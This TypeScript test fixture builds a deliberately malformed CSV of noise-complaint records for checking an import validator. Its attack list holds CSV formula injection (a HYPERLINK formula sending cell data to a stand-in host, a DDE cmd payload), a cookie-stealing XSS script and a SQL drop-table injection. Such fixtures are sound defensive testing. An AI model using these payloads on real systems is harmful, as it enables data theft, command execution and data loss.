import type { Random } from '../random.ts';
import { HEADINGS, request } from './noise-team.ts';
import { type Scene, toCsv } from './scene.ts';

/** What a row is made to say in a column, and what an import must say of it; null where it must be taken as it is. */
interface Attack {
  readonly column: string;
  readonly text: string;
  readonly fault: string | null;
}

/** One attack a row, from row 2 on. */
export const ATTACKS: readonly Attack[] = [
  { column: 'Complaint', text: '=HYPERLINK("http://example.test/?x="&A1,"Click")', fault: null },
  { column: 'Complaint', text: "@SUM(1+1)*cmd|' /C calc'!A0", fault: null },
  { column: 'Impact', text: '+1-1', fault: null },
  {
    column: 'Complaint',
    text: '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
    fault: null,
  },
  { column: 'Complaint', text: "'); drop table reports; --", fault: null },
  { column: 'Complainant', text: 'Mr Bobby <b>Tables</b>', fault: null },
  { column: 'Noise Occurred', text: '31/02/2025', fault: 'is not a date' },
  { column: 'Noise Occurred', text: '10/31/2025', fault: 'is not a date' },
  { column: 'Noise Occurred', text: '45962', fault: 'is not a date' },
  { column: 'Noise Occurred', text: '01/01/2199', fault: 'has not come yet' },
  { column: 'Noise Occurred', text: '5-Nov-2025 25:61', fault: 'is not a time' },
  { column: 'Noise Occurred', text: '', fault: 'it is empty' },
  { column: 'Request Received', text: '1-Aug-2025', fault: 'is before it happened' },
  { column: 'Request Category', text: 'Loud muzak', fault: 'is none of' },
  { column: 'Source Postcode', text: 'ZZ1', fault: 'is not a full UK postcode' },
  { column: 'Source Address', text: '', fault: 'it is empty' },
  { column: 'Complaint', text: '   ', fault: 'it is empty' },
  { column: 'SR Number', text: 'SR88100', fault: 'is also in row' },
  { column: 'SR Number', text: '', fault: 'it is empty' },
  { column: 'Complaint', text: 'x'.repeat(10_001), fault: 'has 10001 characters' },
  { column: 'Complaint', text: 'bell\u0007', fault: 'cannot be shown' },
];

/**
 * The noise team's export with one thing wrong in each row, then a row too short, one too long, and last a quotation
 * mark that is never closed. An import must refuse the whole file and name each fault.
 */
export function hostile(random: Random, { homes, troubled }: Scene): string {
  const rows = ATTACKS.map(({ column, text }, at) =>
    request(random, at, random.pick(homes), troubled).map((cell, index) =>
      HEADINGS[index] === column ? text : cell,
    ),
  );
  const sound = request(random, ATTACKS.length, random.pick(homes), troubled);
  const short = sound.slice(0, 5);
  const long = [...sound, 'one', 'two'];
  return `${toCsv([HEADINGS, ...rows, short, long])}SR99999,"never closed,1-Oct-2025,${'Loud music,'.repeat(3)}\r\n`;
}
